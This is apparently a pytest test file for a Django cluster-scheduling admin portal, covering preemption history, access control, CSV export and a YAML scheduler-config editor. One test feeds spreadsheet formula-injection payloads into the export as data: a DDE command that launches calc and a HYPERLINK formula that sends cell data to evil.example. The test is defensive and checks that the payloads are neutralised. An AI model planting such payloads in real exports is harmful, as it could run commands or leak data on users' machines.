import csv
import io
from html import escape
from http import HTTPStatus

import pytest
from django.urls import reverse

from tests.factories import JobFactory, PreemptionEventFactory

pytestmark = pytest.mark.django_db

URL = "/admin-area/preemptions/"


def test_url_name():
    assert reverse("scheduling:preemption_list") == URL


def test_staff_sees_all_preemptions(staff_client, nlp_queue, vision_queue):
    PreemptionEventFactory(victim_job=JobFactory(queue=nlp_queue, name="victim-a"))
    PreemptionEventFactory(
        victim_job=JobFactory(queue=vision_queue, name="victim-b"), action="preempt"
    )
    response = staff_client.get(URL)
    assert response.status_code == HTTPStatus.OK
    body = response.content.decode()
    assert "victim-a" in body
    assert "victim-b" in body
    response = staff_client.get(URL, {"action": "preempt"})
    assert [event.victim_job.name for event in response.context["events"]] == ["victim-b"]
    response = staff_client.get(URL, {"queue": str(nlp_queue.pk)})
    assert [event.victim_job.name for event in response.context["events"]] == ["victim-a"]


def test_staff_sees_empty_table(staff_client):
    assert "No preemptions recorded." in staff_client.get(URL).content.decode()


@pytest.mark.parametrize("who", ["researcher_client", "lead_client"])
def test_non_staff_gets_403(request, who, nlp_queue):
    PreemptionEventFactory(victim_job=JobFactory(queue=nlp_queue, name="secret-victim"))
    response = request.getfixturevalue(who).get(URL)
    assert response.status_code == HTTPStatus.FORBIDDEN
    assert "secret-victim" not in response.content.decode()


def test_anonymous_redirected_to_login(client):
    response = client.get(URL)
    assert response.status_code == HTTPStatus.FOUND
    assert response.url.startswith(reverse("login"))


# --- filters, CSV, pagination, scheduler config editor ------------------------------------


def _events(nlp_queue, vision_queue):
    from datetime import timedelta

    from django.utils import timezone

    now = timezone.now()
    old = PreemptionEventFactory(
        victim_job=JobFactory(queue=nlp_queue, name="old-victim"),
        occurred_at=now - timedelta(days=3),
    )
    new = PreemptionEventFactory(
        victim_job=JobFactory(queue=vision_queue, name="new-victim"),
        action="preempt",
        occurred_at=now,
    )
    return old, new


def test_filters_by_tenant_and_time_range(staff_client, nlp_queue, vision_queue):
    old, new = _events(nlp_queue, vision_queue)
    response = staff_client.get(URL, {"tenant": str(vision_queue.tenant_id)})
    assert list(response.context["events"]) == [new]
    since = (new.occurred_at.replace(microsecond=0)).strftime("%Y-%m-%dT%H:%M")
    response = staff_client.get(URL, {"until": since})
    assert list(response.context["events"]) == [old]


def test_csv_export_uses_the_same_filters(staff_client, nlp_queue, vision_queue):
    _events(nlp_queue, vision_queue)
    response = staff_client.get(reverse("scheduling:preemption_csv"), {"action": "preempt"})
    assert response.status_code == HTTPStatus.OK
    assert response["Content-Type"] == "text/csv"
    lines = b"".join(response.streaming_content).decode().splitlines()
    assert lines[0].startswith("occurred_at,action,victim_job_id")
    assert len(lines) == 2
    assert "new-victim" in lines[1]


def test_csv_export_forbidden_for_lead(lead_client):
    assert lead_client.get(reverse("scheduling:preemption_csv")).status_code == 403


def test_history_is_paginated_and_links_jobs(staff_client, nlp_queue):
    victim = JobFactory(queue=nlp_queue)
    PreemptionEventFactory.create_batch(55, victim_job=victim)
    response = staff_client.get(URL, {"page": "2"})
    assert len(response.context["events"]) == 5
    assert reverse("jobs:job_detail", args=[victim.pk]) in response.content.decode()


CONFIG_URL = "/admin-area/config/"


def test_config_editor_saves_a_version_and_activates(staff_client):
    from portal.scheduling.models import SchedulerConfig
    from tests.factories import VALID_CONF_TEXT

    response = staff_client.post(
        CONFIG_URL, {"text": VALID_CONF_TEXT, "comment": "first", "activate": "on"}
    )
    assert response.status_code == HTTPStatus.FOUND
    config = SchedulerConfig.objects.get()
    assert config.active is True
    assert config.comment == "first"


def test_config_editor_keeps_each_yaml_line_on_one_line(staff_client):
    page = staff_client.get(CONFIG_URL).content.decode()
    textarea = page[page.index("<textarea") : page.index(">", page.index("<textarea"))]
    assert 'wrap="off"' in textarea  # a soft-wrapped YAML line reads at the wrong indent


def test_config_editor_shows_parser_error_naming_the_field(staff_client):
    from portal.scheduling.models import SchedulerConfig

    text = 'actions: "enqueue, allocate"\ntiers:\n- plugins:\n  - name: no-such-plugin\n'
    response = staff_client.post(CONFIG_URL, {"text": text, "activate": "on"})
    assert response.status_code == HTTPStatus.OK
    error = response.context["form"].errors["text"][0]
    assert error.startswith("line 4: tiers[0].plugins[0].name:")
    assert escape(error) in response.content.decode()
    assert not SchedulerConfig.objects.exists()


def test_config_editor_lists_every_problem_and_yaml_positions(staff_client):
    text = 'actions: "enqueue, alocate"\ntiers:\n- plugins:\n  - name: no-such-plugin\n'
    response = staff_client.post(CONFIG_URL, {"text": text, "activate": "on"})
    errors = response.context["form"].errors["text"]
    assert [error.split(":")[0] for error in errors] == ["line 1", "line 4"]
    body = response.content.decode()
    assert all(escape(error) in body for error in errors)
    response = staff_client.post(CONFIG_URL, {"text": "actions: [enqueue\n", "activate": "on"})
    (error,) = response.context["form"].errors["text"]
    assert error.startswith("line 2, column 1: not valid YAML: expected ',' or ']'")


def test_config_editor_says_the_kubelet_checks_always_apply(staff_client):
    from django.contrib.messages import get_messages

    from portal.scheduling.services import CONF_ADDS_PREDICATES, CONF_HARD_FEASIBILITY

    assert escape(CONF_HARD_FEASIBILITY) in staff_client.get(CONFIG_URL).content.decode()
    without = 'actions: "enqueue, allocate"\ntiers:\n- plugins:\n  - name: gang\n'
    response = staff_client.post(CONFIG_URL, {"text": without, "activate": "on"})
    assert response.status_code == HTTPStatus.FOUND
    assert CONF_ADDS_PREDICATES in [m.message for m in get_messages(response.wsgi_request)]
    page = staff_client.get(CONFIG_URL).content.decode()
    assert escape(CONF_ADDS_PREDICATES) in page  # the warning is shown once, after the save

    with_predicates = without + "  - name: predicates\n"
    response = staff_client.post(CONFIG_URL, {"text": with_predicates, "activate": "on"})
    assert CONF_ADDS_PREDICATES not in [m.message for m in get_messages(response.wsgi_request)]


def test_config_activate_older_version(staff_client):
    from tests.factories import SchedulerConfigFactory

    old = SchedulerConfigFactory(active=False)
    SchedulerConfigFactory(active=True)
    response = staff_client.post(reverse("scheduling:config_activate", args=[old.pk]))
    assert response.status_code == HTTPStatus.FOUND
    old.refresh_from_db()
    assert old.active is True
    body = staff_client.get(CONFIG_URL).content.decode()
    assert f"v{old.version}" in body


def test_config_pages_refused_for_non_staff(lead_client):
    from tests.factories import SchedulerConfigFactory

    config = SchedulerConfigFactory()
    assert lead_client.get(CONFIG_URL).status_code == HTTPStatus.FORBIDDEN
    url = reverse("scheduling:config_activate", args=[config.pk])
    assert lead_client.post(url).status_code == HTTPStatus.FORBIDDEN


def test_csv_export_cells_never_start_a_formula(staff_client, nlp_queue):
    """Free text reaches the export (the sentence, the node and task names as the cluster
    reported them): a spreadsheet must show it, not evaluate it."""
    PreemptionEventFactory(
        victim_job=JobFactory(queue=nlp_queue, name="victim"),
        victim_task_name="@SUM(1+1)",
        node_name="+cmd|' /C calc'!A0",
        sentence='=HYPERLINK("http://evil.example/?x="&A1,"click")',
    )
    response = staff_client.get(reverse("scheduling:preemption_csv"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    event = dict(zip(rows[0], rows[1], strict=True))
    assert event["victim_task"] == "'@SUM(1+1)"
    assert event["node"] == "'+cmd|' /C calc'!A0"
    assert event["sentence"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert event["gpus_freed"].isdigit()


def test_history_names_a_missing_preemptor_and_uses_short_tenant_names(
    staff_client, nlp_queue, nlp
):
    nlp.display_name = "Natural language processing"
    nlp.save()
    PreemptionEventFactory(
        victim_job=JobFactory(queue=nlp_queue, name="moved-job"),
        action="rescheduling",
        preemptor_job=None,
        preemptor_queue=None,
    )
    response = staff_client.get(URL)
    body = response.content.decode()
    assert "rescheduling (no preemptor)" in body
    assert ">none<" not in body
    options = response.context["form"]["tenant"]
    assert [choice.choice_label for choice in options][1:] == ["nlp"]
    assert "Natural language processing" not in body


def test_csv_export_sits_with_the_table_and_keeps_the_filters(staff_client, nlp_queue):
    PreemptionEventFactory(victim_job=JobFactory(queue=nlp_queue), action="reclaim")
    body = staff_client.get(URL, {"action": "reclaim"}).content.decode()
    toolbar = body.index('id="preemption-count"')
    assert toolbar < body.index('id="csv-export"') < body.index('id="preemptions"')
    assert "1 eviction matching the filters" in body
    assert 'href="/admin-area/preemptions.csv?action=reclaim"' in body
